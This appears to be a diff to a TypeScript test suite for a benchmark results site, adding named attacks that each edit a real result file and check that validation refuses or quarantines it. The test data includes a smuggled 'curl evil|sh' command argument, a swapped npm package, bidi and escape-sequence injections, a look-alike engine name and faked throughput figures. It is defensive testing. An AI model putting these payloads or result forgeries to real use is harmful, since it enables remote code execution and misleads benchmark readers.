@@ -6,10 +6,13 @@
  * (every page prerendered) from what compiled. Mutations: numbers to 0, negative, fractional, huge
  * (2^31, 2^53, 1e300); strings to empty, CR/LF/NUL, quotes and backslashes, markup, bidi controls,
  * look-alike letters, workflow commands, 10,000 characters; keys deleted or added; types swapped;
- * arrays emptied or duplicated.
+ * arrays emptied or duplicated. Beside them, the named attacks of the trust review (issue 23), each
+ * made from a committed real CPU-lane result: each is refused naming its rule, or accepted and kept
+ * out of every official statistic. Every accepted file also verifies (`servebench verify`), and
+ * every refused one is invalid there too.
  */
 import { execFile } from 'node:child_process';
-import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -23,6 +26,8 @@ import { startSimServer, type SimServer } from '../../harness/testbed/sim/server
 import { syntheticResult } from '../../harness/testbed/synthetic-results.ts';
 import { runCli } from '../cli/run-cli.ts';
 import { writeFixturePrices } from './fixture-results.ts';
+import { workloadSpecSha256 } from '../../harness/contract/workload-hash.ts';
+import { listResultFiles } from '../../harness/store/result-files.ts';
 
 const MUTANTS = 1200;
 const REPO = fileURLToPath(new URL('../..', import.meta.url));
@@ -124,7 +129,66 @@ async function realRun(faults: Record<string, number>, extra: readonly string[])
   return JSON.parse(readFileSync(written, 'utf8')) as RunResult;
 }
 
+
+/** A committed real result of the CPU lane (llama.cpp v0.4.0, cpu-chat): the base of the named attacks. */
+function laneResult(): RunResult {
+  const file = listResultFiles(join(REPO, 'results')).files.find((f) => f.relativePath.includes('llamacpp/dummy-llama-3.2-1b-instruct/cpu-2x-amd-epyc/cpu-chat'))!;
+  return JSON.parse(readFileSync(file.absolutePath, 'utf8')) as RunResult;
+}
+
+/** Every point's duration divided by `factor` and its rates multiplied: the file's sums still agree, only the speed lies. */
+function faster(r: RunResult, factor: number): void {
+  for (const point of r.points) {
+    const m = point.metrics;
+    m.duration_s /= factor;
+    for (const key of ['request_throughput', 'output_throughput', 'total_throughput', 'goodput'] as const) if (m[key] !== null) m[key] = m[key]! * factor;
+  }
+}
+
+interface NamedAttack {
+  readonly name: string;
+  readonly edit: (r: RunResult) => void;
+  /** The rule validate names, or null: accepted (and then kept out of the official statistics, where that is the point). */
+  readonly rule: string | null;
+}
+
+const NAMED_ATTACKS: readonly NamedAttack[] = [
+  { name: 'the Reproduce block runs another npm package', rule: 'recorded-command', edit: (r) => void (r.harness.command = ['--yes', '--package=evil-package', '--', ...r.harness.command]) },
+  { name: 'an unknown flag smuggled into the command', rule: 'recorded-command', edit: (r) => void r.harness.command.push('--exec', 'curl evil|sh') },
+  { name: 'git_commit as free text', rule: 'schema', edit: (r) => void (r.harness.git_commit = 'see https://evil.example/checkout') },
+  { name: 'a bidi override in git_commit', rule: 'schema', edit: (r) => void (r.harness.git_commit = `${'a'.repeat(39)}\u202e`) },
+  { name: 'an escape sequence in the tokenizer name', rule: 'name-characters', edit: (r) => void (r.workload.tokenizer!.name += '\u001b[31m') },
+  { name: 'a bidi override in host.os (free text: shown escaped)', rule: null, edit: (r) => void (r.run!.host.os += ' \u202eevil') },
+  { name: 'an engine name that reads as vllm', rule: 'known-engine', edit: (r) => void ((r.run!.engine.name = 'v1lm'), (r.harness.command[r.harness.command.indexOf('--engine') + 1] = 'v1lm')) },
+  { name: 'a relabelled engine (page says vllm, command runs llama.cpp)', rule: 'command-agrees', edit: (r) => void (r.run!.engine.name = 'vllm') },
+  { name: 'a community run that says official', rule: 'command-agrees', edit: (r) => void r.harness.command.splice(r.harness.command.indexOf('--source'), 2) },
+  { name: 'a made-up version (accepted as unverified, never ranked)', rule: null, edit: (r) => void (r.run!.engine.version = 'v0.5.0') },
+  { name: 'a CPU run scaled 30,000x', rule: 'roofline', edit: (r) => faster(r, 30_000) },
+  { name: 'a spec changed under its hash', rule: 'spec-hash', edit: (r) => void (r.workload.spec.input = { dist: 'fixed', tokens: 128 }) },
+  {
+    name: 'an easier workload under the scenario name (re-hashed)',
+    rule: 'workload-lengths',
+    edit: (r) => {
+      r.workload.spec.input = { dist: 'fixed', tokens: 2048 };
+      r.workload.spec_sha256 = workloadSpecSha256(r.workload.spec);
+    },
+  },
+  { name: 'a secret in a header', rule: 'credential', edit: (r) => void r.harness.command.push('--header', 'X-RapidAPI-Key: 0123456789abcdef0123456789abcdef') },
+  {
+    name: 'a 150,000-entry logit_bias (validates, so every later stage takes it)',
+    rule: null,
+    edit: (r) => {
+      const bias = Object.fromEntries(Array.from({ length: 150_000 }, (_, i) => [String(i), -1]));
+      r.workload.extra_body = { logit_bias: bias };
+      r.harness.command.push('--extra-body', JSON.stringify({ logit_bias: bias }));
+    },
+  },
+  { name: 'a half-speed community copy (accepted, never pooled)', rule: null, edit: (r) => void ((r.source = 'community'), (r.harness.command[r.harness.command.indexOf('--source') + 1] = 'community'), faster(r, 0.5)) },
+];
+
 const mutations = new Map<string, string>();
+/** Where each named attack was placed. */
+const attacks = new Map<string, NamedAttack>();
 const placed = new Set<string>();
 let validateProblems: Array<{ file: string; path: string; message: string; fix: string }> = [];
 let report: CompileReport;
@@ -149,6 +213,16 @@ beforeAll(async () => {
     placed.add(path);
     mutations.set(path, `mutant ${i}: ${applied.join('; ')}`);
   }
+  const lane = laneResult();
+  NAMED_ATTACKS.forEach((attack, i) => {
+    const doc = structuredClone(lane);
+    doc.run_id = `${doc.run_id.slice(0, 17)}a77ac${i.toString(16).padStart(3, '0')}`;
+    attack.edit(doc);
+    const path = place(`${JSON.stringify(doc, null, 2)}\n`, `unplaceable/attack-${i}.json`);
+    placed.add(path);
+    attacks.set(path, attack);
+    mutations.set(path, `named attack: ${attack.name}`);
+  });
   const validated = await runCli(['validate', '--results', resultsDir, '--json'], 300_000);
   validateProblems = (JSON.parse(validated.stdout) as { problems: typeof validateProblems }).problems;
   report = await compile({ resultsDir, outDir: join(root, 'data'), prices: loadPrices(writeFixturePrices(root)), now: new Date('2026-12-01T00:00:00Z') });
@@ -178,6 +252,30 @@ describe(`a hostile corpus of ${MUTANTS} mutants`, () => {
     expect(report.ingest.valid).toBe(placed.size - byValidate.size);
   });
 
+  it('every problem is one line that begins with the rule it names', () => {
+    for (const problem of validateProblems) expect(problem.message, mutations.get(problem.file)).toMatch(/^\[[^\]\s]+\] /);
+  });
+
+  it.each(NAMED_ATTACKS.map((attack) => [attack.name, attack] as const))('named attack: %s', (_name, attack) => {
+    const path = [...attacks].find(([, a]) => a === attack)![0];
+    const rules = validateProblems.filter((p) => p.file === path).map((p) => /^\[([^\]]+)\]/.exec(p.message)![1]!);
+    if (attack.rule === null) expect(rules).toEqual([]);
+    else expect(rules.some((rule) => rule.startsWith(attack.rule!)), rules.join(', ')).toBe(true);
+  });
+
+  it('verify agrees: every file validate accepts verifies, every file it refuses is invalid (or not a result)', async () => {
+    const verified = await runCli(['verify', '--results', resultsDir, resultsDir, '--json'], 600_000);
+    const files = (JSON.parse(verified.stdout) as { files: Array<{ file: string; status: string }> }).files;
+    const refused = new Set(validateProblems.map((p) => p.file));
+    const byFile = new Map(files.map((f) => [f.file, f.status]));
+    for (const path of placed) {
+      if (path.startsWith('unplaceable/')) continue;
+      // A refused file is invalid, or not a result at all (no schema_version: verify's "bad input").
+      if (refused.has(path)) expect(['invalid', 'bad-input'], mutations.get(path) ?? path).toContain(byFile.get(path));
+      else expect(byFile.get(path), mutations.get(path) ?? path).toBe('valid');
+    }
+  }, 600_000);
+
   it('the site builds from what compiled (every page prerendered)', async () => {
     await new Promise<void>((resolve, reject) => {
       execFile(process.execPath, [join(REPO, 'node_modules/astro/bin/astro.mjs'), 'build'], { cwd: REPO, env: { ...process.env, ASTRO_TELEMETRY_DISABLED: '1', SERVEBENCH_DATA: join(root, 'data'), SERVEBENCH_SITE_OUT: join(root, 'site') }, timeout: 300_000, maxBuffer: 64 * 1024 * 1024 }, (error, _stdout, stderr) =>
@@ -186,5 +284,9 @@ describe(`a hostile corpus of ${MUTANTS} mutants`, () => {
     });
     const home = readFileSync(join(root, 'site', 'index.html'), 'utf8');
     expect(home).not.toMatch(/<script>alert\(1\)<\/script>/);
+    // Free text reaches the pages escaped visibly: no page holds a raw control or bidi character.
+    const pages = readdirSync(join(root, 'site'), { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.html'));
+    expect(pages.length).toBeGreaterThan(3);
+    for (const page of pages) expect(readFileSync(join(root, 'site', page), 'utf8'), page).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202a-\u202e\u2066-\u2069]/);
   }, 400_000);
 });
